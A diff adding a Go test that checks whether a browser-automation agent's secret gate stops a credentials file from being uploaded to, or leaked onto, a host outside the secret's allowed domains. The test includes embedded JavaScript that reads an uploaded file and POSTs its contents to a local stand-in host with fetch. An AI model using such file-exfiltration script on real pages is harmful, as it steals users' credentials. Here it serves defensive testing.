@@ -357,3 +357,71 @@ download_dir = %q
 		}
 	}
 }
+
+// TestUploadedFileCannotCarryTheSecret: a file in upload_dir holds a
+// secret's value (a page's download of it saved there, or an operator's
+// file). Attaching it to a page outside the secret's domains (127.0.0.3,
+// in the scope) and sending the form there would take the value where
+// type_text may not: refused at stage secrets. Attached on the secret's
+// own site, the page reads the file and sends it to 127.0.0.3: the value
+// is held to its domains as a typed one is. 127.0.0.3 never sees it.
+func TestUploadedFileCannotCarryTheSecret(t *testing.T) {
+	t.Parallel()
+	port, _ := startChromium(t)
+	endpoint := fmt.Sprintf("http://127.0.0.1:%d", port)
+	up := t.TempDir()
+	if err := os.WriteFile(filepath.Join(up, "creds.txt"), []byte("user=me\npassword="+secretValue+"\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	manifest := liveSecretFilesManifest(endpoint, "upload_file", "upload_dir", up)
+	// The shipped policy asks a human for every upload, who sees the
+	// file's name, size and hash, not that it holds the value: without
+	// it, as an operator may run, the gate alone must hold the value.
+	policies := testkit.CopyPolicies(t)
+	for _, name := range []string{"files.cedar", "policy-tests.json"} { // and the shipped policies' tests of it
+		if err := os.Remove(filepath.Join(policies, name)); err != nil {
+			t.Fatal(err)
+		}
+	}
+	f := startWith(t, manifest, "--policies", policies)
+	var mu sync.Mutex
+	var got []string
+	form := `<title>upload</title><form id=f method=POST enctype=multipart/form-data action="/post"><input type=file id=file name=file><button id=send>send</button></form>`
+	other, stopX, err := serveOn("127.0.0.3:0", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		b, _ := io.ReadAll(r.Body)
+		mu.Lock()
+		got = append(got, r.URL.String()+" "+string(b))
+		mu.Unlock()
+		w.Header().Set("Content-Type", "text/html")
+		fmt.Fprint(w, form)
+	}))
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(stopX)
+	site, _ := serveLogged(t, map[string]string{
+		"/up": fmt.Sprintf(`<title>site upload</title><input type=file id=file><script>
+document.getElementById('file').addEventListener('change', e => e.target.files[0].text().then(v =>
+  fetch(%q, {method: 'POST', body: v, mode: 'no-cors'}).catch(() => {})));
+</script>`, other+"/from-site"),
+	})
+	f.mustAllow(t, "e2e.navigate", map[string]any{"url": other + "/form"})
+	out, refused := f.call(t, "e2e.upload_file", map[string]any{"selector": "#file", "file": "creds.txt"})
+	t.Logf("upload_file on 127.0.0.3 (refused %v):\n%s", refused, out)
+	if !refused || !strings.Contains(out, "DENIED at secrets") {
+		t.Errorf("a file holding the secret was attached on a page outside its domains")
+		f.call(t, "e2e.click", map[string]any{"selector": "#send"})
+	}
+	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/up"})
+	out, _ = f.call(t, "e2e.upload_file", map[string]any{"selector": "#file", "file": "creds.txt"})
+	t.Logf("upload_file on the site:\n%s", out)
+	time.Sleep(2 * time.Second)
+	t.Logf("snapshot: %s", f.mustAllow(t, "e2e.list_tabs", nil))
+	mu.Lock()
+	defer mu.Unlock()
+	for _, g := range got {
+		if strings.Contains(g, secretValue[:len(secretValue)/2]) {
+			t.Errorf("127.0.0.3 got the secret's value: %q", g)
+		}
+	}
+}
